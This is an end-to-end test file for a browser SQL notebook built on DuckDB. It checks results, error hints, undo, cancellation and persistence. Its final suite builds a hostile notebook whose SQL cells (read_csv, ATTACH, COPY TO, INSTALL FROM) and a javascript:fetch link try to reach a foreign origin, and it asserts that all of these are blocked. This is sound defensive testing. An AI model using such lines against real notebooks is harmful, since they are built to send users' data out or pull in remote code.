import { readFile, writeFile, mkdtemp } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sirv from 'sirv';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { serveSite, type Site } from '../../src/cli/serve';
import { visit, Visitors } from './browser';
import {
  cell,
  cellsRun,
  openDemonstration,
  projectMenu,
  runCell,
  settle,
  tableOf,
  trust,
  writeSql,
} from './notebook-page';

interface Listener {
  readonly origin: string;
  readonly heard: string[];
  close(): void;
}

/** Another origin, that hears whatever reaches it. */
async function listen(answer?: Parameters<typeof createServer>[1]): Promise<Listener & { server: Server }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    if (answer) answer(request, response);
    else response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('a\n1\n');
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return {
    server,
    heard,
    origin: `http://127.0.0.1:${port}`,
    close: () => {
      server.close();
      server.closeAllConnections();
    },
  };
}

const visitors = new Visitors();
afterAll(async () => {
  await visitors.close();
});

async function chartText(page: Page): Promise<string> {
  const drawing = cell(page, 'wellbeing_chart').locator('svg[role=img]');
  return (await drawing.locator('text').allTextContents()).join(' | ').replaceAll('\u00a0', ' ');
}

/** Adds a SQL cell at the end and gives its name. */
async function addSqlCell(page: Page): Promise<string> {
  const before = await page.locator('article.cell.sql').count();
  await page.getByRole('button', { name: 'SQL', exact: true }).last().click();
  await page.locator('article.cell.sql').nth(before).waitFor();
  const label = await page.locator('article.cell.sql').last().getAttribute('aria-label');
  return label?.split(' ').at(-1) ?? '';
}

test('the demonstration is there before the engine, which answers what comes after', async () => {
  const { context, page, errors } = await visit(visitors);
  let letGo = () => {};
  const held = new Promise<void>((resolve) => (letGo = resolve));
  await page.route(/duckdb.*\.wasm/, async (route) => {
    await held;
    await route.continue();
  });
  await openDemonstration(page, inject('origin'));
  expect((await tableOf(page, 'wellbeing'))[1]?.[1]).toBe('651');
  expect(await chartText(page)).toContain('n = 651');
  await projectMenu(page).selectOption('BRUS');
  await cell(page, 'wellbeing').and(page.locator('.running')).waitFor();
  letGo();
  await settle(page);
  const count = Number((await tableOf(page, 'wellbeing'))[1]?.[1]);
  expect(count).toBeGreaterThan(0);
  expect(count).toBeLessThan(651);
  await page.unrouteAll();
  expect(errors).toEqual([]);
  await visitors.leave(context);
});

describe('an evaluator’s first visit', () => {
  let page: Page;
  let errors: string[];
  let close: () => Promise<void>;

  beforeAll(async () => {
    const visited = await visit(visitors);
    ({ page, errors } = visited);
    close = () => visitors.leave(visited.context);
    await openDemonstration(page, inject('origin'));
  });
  afterAll(async () => {
    expect(errors).toEqual([]);
    await close();
  });

  test('shows the published numbers, in the table and in the chart', async () => {
    const [, samlet] = await tableOf(page, 'wellbeing');
    expect(samlet?.slice(0, 2)).toEqual(['Samlet', '651']);
    const rows = (await tableOf(page, 'wellbeing')).slice(1).map((row) => row.slice(0, 2).join(' '));
    expect(rows).toEqual(['Samlet 651', '3–10 år 85', '11–16 år 216', '17–24 år 350']);
    const chart = await chartText(page);
    for (const word of ['befolkningen 68', 'stor risiko', 'n = 651', '53', '67', '45', '64']) {
      expect(chart).toContain(word);
    }
  });

  test('a menu re-runs what builds on it and nothing else', async () => {
    await cellsRun(page);
    await projectMenu(page).selectOption('BRUS');
    await settle(page);
    const ran = await cellsRun(page);
    expect(ran).toContain('wellbeing');
    expect(ran).not.toContain('main_export');
    expect(new Set(ran).size).toBe(ran.length);
    const chart = await chartText(page);
    expect(chart).not.toContain('n = 651');
    await projectMenu(page).selectOption('');
    await settle(page);
    expect((await tableOf(page, 'wellbeing'))[1]?.[1]).toBe('651');
  });

  test('a misspelled column is pointed at, on its line, and mended with a click', async () => {
    await writeSql(
      page,
      'wellbeing',
      "SELECT age_group,\n  count(*) AS n\nFROM changes\nWHERE instrumnt = 'who5'\nGROUP BY ALL",
    );
    await runCell(page);
    const broken = cell(page, 'wellbeing');
    await broken.getByText('instrumnt findes ikke').waitFor();
    expect(await broken.innerText()).toContain('Linje 4 i denne celle.');
    expect(await cell(page, 'wellbeing_chart').innerText()).toContain('wellbeing');
    await cell(page, 'wellbeing_chart').and(page.locator('.blocked')).waitFor();
    await broken.getByRole('button', { name: /Ret til instrument/ }).click();
    await settle(page);
    expect(await broken.locator('.note').count()).toBe(0);
  });

  test('undo brings the cell back as it was', async () => {
    const undo = page.getByRole('button', { name: 'Fortryd' });
    for (let step = 0; step < 3; step += 1) {
      if ((await tableOf(page, 'wellbeing'))[0]?.length !== 2) break;
      await undo.click();
      await settle(page);
    }
    const heads = (await tableOf(page, 'wellbeing'))[0];
    expect(heads).toHaveLength(5);
    expect(heads?.at(-1)).toBe('Forskel [95 %]');
    expect(await chartText(page)).toContain('n = 651');
  });

  test('a long query is stopped, and the page goes on', async () => {
    const name = await addSqlCell(page);
    await writeSql(
      page,
      name,
      'SELECT count(*) AS n FROM range(1000000) a, range(1000000) b WHERE a.range + b.range = 7',
    );
    await runCell(page);
    await cell(page, name).getByRole('button', { name: 'Stop' }).click();
    await page.waitForFunction(
      (wanted) => !document.querySelector(`article[aria-label$=" ${wanted}"]`)?.classList.contains('running'),
      name,
      { timeout: 5_000 },
    );
    await projectMenu(page).selectOption('TUBA');
    await cell(page, 'wellbeing').locator('table').waitFor();
    await projectMenu(page).selectOption('');
    await cell(page, name).locator('.menu > button').click();
    await cell(page, name).getByRole('menuitem', { name: 'Slet' }).click();
    await settle(page);
    expect((await tableOf(page, 'wellbeing'))[1]?.[1]).toBe('651');
  });

  test('the notebook is there after a reload, and after a trip through a file', async () => {
    await projectMenu(page).selectOption('BRUS');
    await settle(page);
    const numbers = await tableOf(page, 'wellbeing');
    await page.waitForTimeout(1_000);
    await page.reload();
    await settle(page);
    // DuckDB was started from the head of the page, and no second time
    expect(await page.locator('head script[data-module]').count()).toBe(1);
    expect(await page.evaluate(() => 'earlyWorker' in window && window.earlyWorker === undefined)).toBe(true);
    expect(page.workers()).toHaveLength(1);
    expect(await projectMenu(page).inputValue()).toBe('BRUS');
    expect(await tableOf(page, 'wellbeing')).toEqual(numbers);

    const [saved] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Gem fil' }).click(),
    ]);
    const file = join(await mkdtemp(join(tmpdir(), 'pejling-')), 'gemt.md');
    await writeFile(file, await readFile(await saved.path()));
    await projectMenu(page).selectOption('');
    await settle(page);
    const [chooser] = await Promise.all([
      page.waitForEvent('filechooser'),
      page.getByRole('button', { name: 'Åbn', exact: true }).click(),
    ]);
    await chooser.setFiles(file);
    await page.waitForFunction(
      () => document.querySelector<HTMLSelectElement>('#input-project')?.value === 'BRUS',
    );
    await settle(page);
    expect(await tableOf(page, 'wellbeing')).toEqual(numbers);
  });
});

describe.each(['with policy headers', 'from a plain file server'])(
  'nothing leaves the page, %s',
  (hosting) => {
    let site: Site | undefined;
    let plain: Listener | undefined;
    let elsewhere: Listener;

    beforeAll(async () => {
      elsewhere = await listen();
      if (hosting === 'with policy headers') site = await serveSite(0);
      else plain = await listen(sirv('build', { dev: true }));
    });
    afterAll(async () => {
      elsewhere.close();
      plain?.close();
      await site?.close();
    });

    test('whatever a notebook asks for', async () => {
      const { context, page } = await visit(visitors);
      const foreign: string[] = [];
      const origin = site?.origin ?? plain?.origin ?? '';
      page.on('request', (request) => {
        if (/^https?:/.test(request.url()) && !request.url().startsWith(origin)) foreign.push(request.url());
      });
      await openDemonstration(page, origin);
      const file = join(await mkdtemp(join(tmpdir(), 'pejling-')), 'fremmed.md');
      await writeFile(file, hostileNotebook(elsewhere.origin));
      const [chooser] = await Promise.all([
        page.waitForEvent('filechooser'),
        page.getByRole('button', { name: 'Åbn', exact: true }).click(),
      ]);
      await chooser.setFiles(file);
      await trust(page);
      await cell(page, 'read_url').and(page.locator('.failed')).waitFor();
      await settle(page);
      for (const name of ['read_url', 'from_url', 'attach', 'copy', 'install']) {
        expect(await cell(page, name).getAttribute('class'), name).toContain('failed');
      }
      expect((await tableOf(page, 'children'))[1]).toEqual(['3.766']);
      await page.waitForTimeout(500);
      expect(elsewhere.heard).toEqual([]);
      expect(foreign).toEqual([]);
      await visitors.leave(context);
    });
  },
);

function hostileNotebook(elsewhere: string): string {
  const cells: [string, string][] = [
    ['read_url', `SELECT * FROM read_csv('${elsewhere}/read.csv')`],
    ['from_url', `SELECT * FROM '${elsewhere}/from.csv'`],
    ['attach', `ATTACH '${elsewhere}/attach.db'`],
    ['copy', `COPY courses TO '${elsewhere}/copy.csv'`],
    ['install', `INSTALL httpfs FROM '${elsewhere}'`],
    ['children', 'SELECT count(*) AS n FROM courses'],
  ];
  return `---
format: 1
title: Fremmed
---
# Fremmed ![billede](${elsewhere}/image.png) <img src="${elsewhere}/html.png">

[link](javascript:fetch('${elsewhere}/link'))

${cells.map(([name, sql]) => `\`\`\`sql ${name}\n${sql}\n\`\`\``).join('\n')}
`;
}
